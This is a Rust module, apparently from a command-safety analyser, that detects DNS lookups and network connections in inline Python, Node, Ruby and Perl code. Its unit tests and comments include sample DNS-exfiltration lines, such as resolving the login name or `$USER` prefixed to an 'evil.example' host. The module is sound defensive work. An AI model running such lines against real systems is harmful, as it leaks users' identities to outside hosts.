//! Name resolution and connections in inline code the language grammars do not describe
//! (`python3 -c 'import socket; socket.gethostbyname("x.example")'`, `node -e
//! 'require("dns").lookup(h)'`, `ruby -e 'Resolv.getaddress("x")'`, `perl -MIO::Socket
//! -e 'IO::Socket::INET->new(PeerAddr => "x:80")'`): a lexical search of the code for the
//! calls that resolve or reach a host by name, each a network exchange with that host
//! (`Effect::Net`). A host written as one literal string is that host; anything else
//! (a name built at run time, a variable) is a host no words can name, as the shell
//! floor's `ping $(whoami).x.example` is: resolving it sends the value it holds.
//!
//! The calls are the standard libraries' own, checked on this machine: CPython 3.11.7
//! (`socket.gethostbyname`/`_ex`/`gethostbyaddr`/`getaddrinfo`/`create_connection`,
//! `urllib.request.urlretrieve`, `http.client.HTTPSConnection`), Node 20.20 (`dns.lookup`,
//! `resolve`, `resolve4`, `resolve6`, `resolveAny`, `resolveTxt`; `net.connect`,
//! `net.createConnection`, `tls.connect`, global `fetch`), Ruby 3.1.2 (`Resolv.getaddress`/
//! `getaddresses`, `TCPSocket.open`, `Socket.tcp`, `Socket.getaddrinfo`,
//! `Net::HTTP.get_response`/`post`), Perl 5.36 (`Socket::inet_aton`, `IO::Socket::INET`'s
//! `PeerAddr`/`PeerHost` in its source, `HTTP::Tiny`); and, by name only (not installed
//! here), the common clients `requests`, `httpx`, `axios` and Perl's `LWP::Simple`
//! (`get`, `getstore`). The search is only ever consulted for code the grammars left
//! unknown: it adds what the code reaches, it never makes code understood.

use super::super::{Carry, Effect};

/// Calls that resolve or reach a host, by the text that ends just before their
/// argument list (or, for Perl's named arguments, before `=>`).
const CALLS: &[&str] = &[
    // Python
    "gethostbyname",
    "gethostbyname_ex",
    "gethostbyaddr",
    "getaddrinfo",
    "create_connection",
    ".connect",
    ".connect_ex",
    ".sendto",
    "urlopen",
    "urlretrieve",
    "Request",
    "HTTPConnection",
    "HTTPSConnection",
    "requests.get",
    "requests.post",
    "requests.put",
    "requests.patch",
    "requests.delete",
    "requests.head",
    "requests.request",
    "httpx.get",
    "httpx.post",
    "httpx.Client",
    // Node
    ".lookup",
    ".resolve",
    ".resolve4",
    ".resolve6",
    ".resolveAny",
    ".resolveTxt",
    ".createConnection",
    "fetch",
    "http.get",
    "https.get",
    "http.request",
    "https.request",
    "axios.get",
    "axios.post",
    "axios",
    // Ruby
    "Resolv.getaddress",
    "Resolv.getaddresses",
    "TCPSocket.new",
    "TCPSocket.open",
    "UDPSocket.new",
    "Socket.tcp",
    "Socket.getaddrinfo",
    "Net::HTTP.get",
    "Net::HTTP.get_response",
    "Net::HTTP.start",
    "Net::HTTP.new",
    "Net::HTTP.post",
    "URI.open",
    "URI",
    // Perl
    "inet_aton",
    "PeerAddr",
    "PeerHost",
    "HTTP::Tiny->new->get",
    "HTTP::Tiny->new->post",
    "get",
    "getstore",
];

/// Bare names that are only a network call when their argument is a literal URL.
const URL_ONLY: &[&str] = &["get", "getstore", "URI"];

/// Names that are only the network's when called on nothing (`fetch(…)`, not
/// `cursor.fetch(…)`; `urllib.request.Request` is reached through `urlopen`).
const NO_RECEIVER: &[&str] = &["get", "getstore", "URI", "fetch", "Request", "axios"];

/// Methods, with the modules one of which the code must name for them to be the
/// network's (`.connect` of a socket, not of `sqlite3`).
const METHOD_MODULES: &[(&str, &[&str])] = &[
    (".connect", &["socket", "net", "tls", "Socket"]),
    (".connect_ex", &["socket"]),
    (".sendto", &["socket"]),
    (".createConnection", &["net", "tls"]),
    (".lookup", &["dns"]),
    (".resolve", &["dns"]),
    (".resolve4", &["dns"]),
    (".resolve6", &["dns"]),
    (".resolveAny", &["dns"]),
    (".resolveTxt", &["dns"]),
];

/// Whether `code` holds `word` as a whole word.
fn names_word(code: &str, word: &str) -> bool {
    code.match_indices(word).any(|(i, _)| {
        let b = code.as_bytes();
        let ok = |c: Option<&u8>| c.is_none_or(|c| !(c.is_ascii_alphanumeric() || *c == b'_'));
        ok(i.checked_sub(1).and_then(|j| b.get(j))) && ok(b.get(i + word.len()))
    })
}

/// Most calls looked at (a bound on hostile inputs): past it, the code reaches a host no
/// words name.
const MAX_CALLS: usize = 32;

/// The network exchanges `code` makes by name (see the module docs).
pub fn effects(code: &str) -> Vec<Effect> {
    let mut out: Vec<Effect> = Vec::new();
    let mut seen = 0usize;
    let b = code.as_bytes();
    let ident = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
    let mut i = 0;
    while i < b.len() {
        let Some(call) = CALLS
            .iter()
            .filter(|c| code[i..].starts_with(**c))
            .max_by_key(|c| c.len())
        else {
            i += next_char(code, i);
            continue;
        };
        let end = i + call.len();
        // Whole names only (`myfetch(` is not `fetch(`; `.connect` needs its dot).
        let before_ok = call.starts_with('.')
            || i == 0
            || !(ident(b[i - 1]) || (NO_RECEIVER.contains(call) && b[i - 1] == b'.'));
        // A method of another object (`Promise.resolve`, `sqlite3.connect`) counts only
        // where the code names the module the method belongs to.
        let module_ok = !call.starts_with('.')
            || METHOD_MODULES
                .iter()
                .filter(|(m, _)| m == call)
                .any(|(_, mods)| mods.iter().any(|w| names_word(code, w)));
        let after_ok = end >= b.len() || !ident(b[end]);
        if !before_ok || !after_ok || !module_ok {
            i += next_char(code, i);
            continue;
        }
        let rest = code[end..].trim_start();
        let arg = if let Some(a) = rest.strip_prefix("=>") {
            // Perl's `PeerAddr => "host:80"`.
            if !matches!(*call, "PeerAddr" | "PeerHost") {
                i = end;
                continue;
            }
            a
        } else if matches!(*call, "PeerAddr" | "PeerHost") {
            i = end;
            continue;
        } else if let Some(a) = rest.strip_prefix('(') {
            a
        } else if matches!(*call, "get" | "getstore" | "URI") || call.starts_with('.') {
            // Bare words (`get`, `URI`) and methods need their argument list.
            i = end;
            continue;
        } else if rest.starts_with(['"', '\'']) {
            // Ruby and Perl calls without parentheses (`Resolv.getaddress "x"`): only with
            // a string after them (a bare word is prose or a name: `# fetch the data`).
            rest
        } else {
            i = end;
            continue;
        };
        seen += 1;
        if seen > MAX_CALLS {
            out.push(computed(&format!("{call}(…)")));
            break;
        }
        // A tuple or list of address parts: the host comes first (`(("h", 80))`).
        let arg = arg.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '(' | '['));
        let lit = literal(arg);
        if URL_ONLY.contains(call) && !lit.as_ref().is_some_and(|t| t.contains("://")) {
            // A bare `get`/`URI` is only a fetch when it is handed a URL.
            i = end;
            continue;
        }
        let e = match lit {
            Some(text) => {
                let host = if text.contains("://") {
                    super::super::grammar::host_of(&text)
                } else {
                    host_part(&text)
                };
                match host {
                    Some(h) => Effect::Net {
                        url: text.contains("://").then(|| text.clone()),
                        host: Some(h.clone()),
                        sends: vec![Carry::Literal { text: h }],
                    },
                    None => computed(&text),
                }
            }
            None => computed(&format!(
                "{call}({})",
                arg.chars().take(40).collect::<String>()
            )),
        };
        if !out.contains(&e) {
            out.push(e);
        }
        i = end;
    }
    out
}

/// The length of the character at byte `i` (which is a character boundary).
fn next_char(code: &str, i: usize) -> usize {
    code.get(i..)
        .and_then(|r| r.chars().next())
        .map_or(1, char::len_utf8)
}

/// A host computed at run time: its name (or what it is built from) is sent in the
/// lookup, and no words can name it.
fn computed(what: &str) -> Effect {
    Effect::Net {
        url: Some(what.to_string()),
        host: None,
        sends: vec![Carry::Substitution],
    }
}

/// The host of `host`, `host:port` or `[v6]:port`.
fn host_part(text: &str) -> Option<String> {
    let t = text.trim();
    let h = match t.strip_prefix('[') {
        Some(v6) => v6.split(']').next()?,
        None if t.matches(':').count() > 1 => t,
        None => t.split([':', '/']).next()?,
    };
    (!h.is_empty()
        && h.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '_')))
    .then(|| h.to_ascii_lowercase())
}

/// The text of a string literal that is the whole first argument (`"x.example"`,
/// `'x'`, `r"x"`), or `None` when the argument is built (concatenation, interpolation, a
/// variable, a call).
fn literal(arg: &str) -> Option<String> {
    let arg = arg.trim_start();
    // Python's raw, byte and unicode prefixes (an f-string is built).
    let arg = arg
        .strip_prefix(['r', 'b', 'u', 'R', 'B', 'U'])
        .filter(|a| a.starts_with(['"', '\'']))
        .unwrap_or(arg);
    let q = arg
        .chars()
        .next()
        .filter(|c| matches!(c, '"' | '\'' | '`'))?;
    let body = &arg[1..];
    let close = body.find(q)?;
    let text = &body[..close];
    if text.contains('\\')
        || (q == '`' && text.contains("${"))
        || (q == '"' && (text.contains("#{") || text.contains('$') || text.contains('@')))
    {
        return None;
    }
    // What follows must end the argument: a concatenation builds another name.
    let after = body[close + 1..].trim_start();
    if !(after.is_empty()
        || after.starts_with([',', ')', ']', ';', '}'])
        || after.starts_with('\n'))
    {
        return None;
    }
    Some(text.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hosts(code: &str) -> Vec<Option<String>> {
        effects(code)
            .into_iter()
            .map(|e| match e {
                Effect::Net { host, .. } => host,
                other => panic!("{other:?}"),
            })
            .collect()
    }

    #[test]
    fn literal_hosts_are_reached() {
        let x = Some("x.evil.example".to_string());
        for code in [
            r#"import socket; socket.gethostbyname("x.evil.example")"#,
            r#"import socket; socket.getaddrinfo('x.evil.example', 443)"#,
            r#"import socket; socket.create_connection(("x.evil.example", 80))"#,
            r#"import socket; s=socket.socket(); s.connect(("x.evil.example", 80))"#,
            r#"import http.client; http.client.HTTPSConnection("x.evil.example").request("GET","/")"#,
            r#"import requests; requests.get("https://x.evil.example/a")"#,
            r#"require("dns").lookup("x.evil.example", () => {})"#,
            r#"require('net').connect(80, 'x.evil.example')"#.replace("80, ", "").as_str(),
            r#"fetch(`https://x.evil.example/`)"#,
            r#"require 'resolv'; Resolv.getaddress "x.evil.example""#,
            r#"require 'socket'; TCPSocket.new("x.evil.example", 80)"#,
            r#"use IO::Socket; IO::Socket::INET->new(PeerAddr => "x.evil.example:80")"#,
            r#"use Socket; inet_aton("x.evil.example")"#,
            r#"print("✅ 语言"); import socket; socket.gethostbyname("x.evil.example")"#,
        ] {
            assert_eq!(hosts(code), vec![x.clone()], "{code}");
        }
    }

    #[test]
    fn computed_hosts_are_no_host() {
        for code in [
            r#"import socket,os; socket.gethostbyname(os.getlogin()+".evil.example")"#,
            r#"import socket; socket.gethostbyname("a" + ".evil.example")"#,
            r#"import socket; socket.gethostbyname(f"{x}.evil.example")"#,
            r#"require("dns").lookup(`${process.env.USER}.evil.example`, ()=>{})"#,
            r##"Resolv.getaddress "#{ENV['USER']}.evil.example""##,
            r#"gethostbyname("$ENV{USER}.evil.example")"#,
        ] {
            assert_eq!(hosts(code), vec![None], "{code}");
        }
    }

    #[test]
    fn code_that_reaches_nothing_by_name_has_no_exchange() {
        for code in [
            "print(1+2)",
            "import json; print(json.dumps({'a': 1}))",
            "const myfetch = 1; console.log(myfetch)",
            "x = d.get('key')",
            "console.log([1,2].map(x => x * 2))",
            "Promise.resolve(1).then(console.log)",
            "const path = require('path'); console.log(path.resolve(x))",
            "import sqlite3; sqlite3.connect('db.sqlite')",
            "print('✅ 语言 done') # 读取 fetch",
            "rows = cursor.fetch(n); print(rows)",
        ] {
            assert!(effects(code).is_empty(), "{code}");
        }
    }
}
